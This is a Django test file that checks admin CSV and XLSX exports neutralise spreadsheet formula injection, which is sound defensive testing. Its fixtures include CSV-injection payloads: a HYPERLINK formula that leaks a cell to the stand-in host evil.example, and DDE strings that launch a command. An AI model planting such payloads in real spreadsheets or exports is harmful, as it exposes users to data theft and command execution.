"""Admin exports neutralise spreadsheet formulas (CSV injection), in CSV and XLSX, for every model."""

from __future__ import annotations

import csv
import io
import itertools

import openpyxl
import pytest
from django.contrib import admin
from django.test import RequestFactory
from import_export.mixins import BaseExportMixin
from import_export.resources import Resource

from alliance.core.exports import ReadableExportResource, neutralise_cell
from tests.factories import ApplicationFactory

PAYLOADS = ['=HYPERLINK("https://evil.example/?x="&A1,"Click")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def _export_admins():
    return [(model, model_admin) for model, model_admin in admin.site._registry.items()
            if isinstance(model_admin, BaseExportMixin)]


def _cells_of(fmt, content) -> list[object]:
    if fmt.get_title() == "csv":
        text = content.decode() if isinstance(content, bytes) else content
        return [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells), "a formula survived in the XLSX"
    return [cell.value for cell in cells]


@pytest.mark.parametrize("value", PAYLOADS)
def test_a_cell_a_spreadsheet_would_run_gets_a_leading_quote(value):
    assert neutralise_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["-12.5", "+3", "1e5", "plain text", "a=b", "", None, -4, 7.5])
def test_numbers_and_ordinary_text_are_left_alone(value):
    assert neutralise_cell(value) == value


def test_every_exporting_admin_offers_csv_and_xlsx_only():
    admins = _export_admins()
    assert len(admins) >= 20
    for model, model_admin in admins:
        titles = sorted(f().get_title() for f in model_admin.get_export_formats())
        assert titles == ["csv", "xlsx"], model


@pytest.mark.django_db
def test_no_formula_survives_any_export_of_any_model(monkeypatch, staff_user):
    """Every field of every resource of every exporting admin exports a hostile text: none of it
    reaches the CSV or the XLSX as something a spreadsheet would run."""
    payloads = itertools.cycle(PAYLOADS)
    hostile = lambda self, field, instance, **kw: next(payloads)  # noqa: E731
    monkeypatch.setattr(Resource, "export_field", hostile)
    monkeypatch.setattr(ReadableExportResource, "export_field", hostile)
    request = RequestFactory().get("/")
    request.user = staff_user
    staff_user.is_superuser = True
    exported = 0
    for model, model_admin in _export_admins():
        for index, _resource in enumerate(model_admin.get_export_resource_classes(request)):
            for fmt in model_admin.get_export_formats():
                form = type("Form", (), {"cleaned_data": {"resource": index}})()
                content = model_admin.get_export_data(fmt(), request, [model(), model()],
                                                      export_form=form)
                cells = _cells_of(fmt(), content)
                hostile = [c for c in cells if isinstance(c, str) and c.startswith(("=", "+", "-", "@",
                                                                                     "\t", "\r"))]
                assert not hostile, (model, fmt)
                assert any(isinstance(c, str) and c.startswith("'=") for c in cells), (model, fmt)
                exported += 1
    assert exported >= 40


@pytest.mark.django_db
def test_an_applications_formula_reaches_the_xlsx_as_text(staff_client):
    from centres.models import Application, Call

    call = Call.objects.create(code="first", name="First call", opened_on="2023-01-25")
    application = ApplicationFactory(call=call, organisation='=HYPERLINK("https://evil.example","Click")',
                                   contact_name="@Amina")
    model_admin = admin.site._registry[Application]
    formats = model_admin.get_export_formats()
    xlsx = next(i for i, f in enumerate(formats) if f().get_title() == "xlsx")
    response = staff_client.post("/en/admin/centres/application/export/", {
        "format": str(xlsx), "resource": "0", "export_items": [application.pk],
        "applicationresourcereadable_organisation": "on", "applicationresourcereadable_contact_name": "on"})
    assert response.status_code == 200, response.content[:500]
    cells = _cells_of(formats[xlsx](), response.content)
    assert "'=HYPERLINK(\"https://evil.example\",\"Click\")" in cells
    assert "'@Amina" in cells
